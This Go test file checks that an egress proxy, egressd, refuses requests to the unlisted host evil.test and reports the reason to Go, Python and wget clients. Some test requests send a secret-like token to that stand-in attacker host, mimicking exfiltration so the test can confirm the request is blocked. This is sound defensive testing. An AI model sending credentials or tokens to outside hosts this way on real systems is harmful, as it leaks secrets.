package proxy

import (
	"context"
	"io"
	"net"
	"net/http"
	"net/url"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"time"
)

// The reason reaches the workload's log (issue 23): a client that prints
// only the status line of egressd's refusal shows why. Each real client
// asks, from the pod llm-0, through the proxy for evil.test, which no rule
// names: its error text must hold "(egressd: not-allowlisted)".
const wantPhrase = "Forbidden (egressd: not-allowlisted)"

// TestReasonGoClient: Go's http.Client, through CONNECT (its proxyconnect
// error is the status text) and plain HTTP (the status and the body).
func TestReasonGoClient(t *testing.T) {
	e := newEnv(t, envOpt{})
	proxyURL := &url.URL{Scheme: "http", Host: e.addr}
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(podIP)}, Timeout: 10 * time.Second}
	c := &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{
		Proxy: http.ProxyURL(proxyURL), DialContext: d.DialContext, DisableKeepAlives: true,
	}}
	_, err := c.Get("https://evil.test:" + strconv.Itoa(e.tlsPort) + "/")
	if err == nil || !strings.Contains(err.Error(), wantPhrase) {
		t.Errorf("CONNECT: error %v, want it to hold %q", err, wantPhrase)
	}
	resp, err := c.Get("http://evil.test:" + strconv.Itoa(e.httpPort) + "/x?token=s3cr3t")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.Status != "403 "+wantPhrase || resp.Header.Get("X-Egressd-Reason") != "not-allowlisted" {
		t.Errorf("plain HTTP: status %q, X-Egressd-Reason %q", resp.Status, resp.Header.Get("X-Egressd-Reason"))
	}
	if b := string(body); strings.Count(b, "\n") != 1 || !strings.HasSuffix(b, ": not-allowlisted\n") || strings.Contains(b, "s3cr3t") {
		t.Errorf("plain HTTP body %q: want one line ending in the reason, no query", b)
	}
}

// TestReasonPython: python's requests (http.client's tunnel underneath
// when requests is not installed) says "Tunnel connection failed: 403
// Forbidden (egressd: not-allowlisted)".
func TestReasonPython(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 not installed (scripts/deps/base.sh installs it)")
	}
	e := newEnv(t, envOpt{})
	script := `
import sys
proxy, url, src = sys.argv[1], sys.argv[2], sys.argv[3]
try:
    import requests
    from requests.adapters import HTTPAdapter
    class Bound(HTTPAdapter):
        def proxy_manager_for(self, proxy, **kw):
            kw["source_address"] = (src, 0)
            return super().proxy_manager_for(proxy, **kw)
    s = requests.Session()
    s.mount("https://", Bound())
    try:
        s.get(url, proxies={"https": proxy}, timeout=20)
    except Exception as e:
        print("requests:", e)
except ImportError:
    import http.client, urllib.parse
    p = urllib.parse.urlsplit(proxy)
    u = urllib.parse.urlsplit(url)
    c = http.client.HTTPSConnection(p.hostname, p.port, timeout=20, source_address=(src, 0))
    c.set_tunnel(u.hostname, u.port)
    try:
        c.request("GET", "/")
    except Exception as e:
        print("http.client:", e)
`
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	out, _ := exec.CommandContext(ctx, "python3", "-c", script, "http://"+e.addr,
		"https://evil.test:"+strconv.Itoa(e.tlsPort)+"/", podIP).CombinedOutput()
	if want := "Tunnel connection failed: 403 " + wantPhrase; !strings.Contains(string(out), want) {
		t.Errorf("python: %s\nwant it to hold %q", out, want)
	}
	t.Logf("python: %s", out)
}

// TestReasonWget: wget prints the status line of a refused CONNECT
// ("Proxy tunneling failed: Forbidden (egressd: …)") and of a refused
// plain request ("ERROR 403: Forbidden (egressd: …)").
func TestReasonWget(t *testing.T) {
	if _, err := exec.LookPath("wget"); err != nil {
		t.Skip("wget not installed (scripts/deps/base.sh installs it)")
	}
	e := newEnv(t, envOpt{})
	for _, url := range []string{"https://evil.test:" + strconv.Itoa(e.tlsPort) + "/", "http://evil.test:" + strconv.Itoa(e.httpPort) + "/"} {
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		cmd := exec.CommandContext(ctx, "wget", "-O", "/dev/null", "--tries=1", "--timeout=20", "--bind-address="+podIP,
			"-e", "use_proxy=yes", "-e", "https_proxy=http://"+e.addr, "-e", "http_proxy=http://"+e.addr, url)
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + t.TempDir()}
		out, err := cmd.CombinedOutput()
		cancel()
		if err == nil || !strings.Contains(string(out), wantPhrase) {
			t.Errorf("wget %s: %v\n%s\nwant it to hold %q", url, err, out, wantPhrase)
		}
	}
}
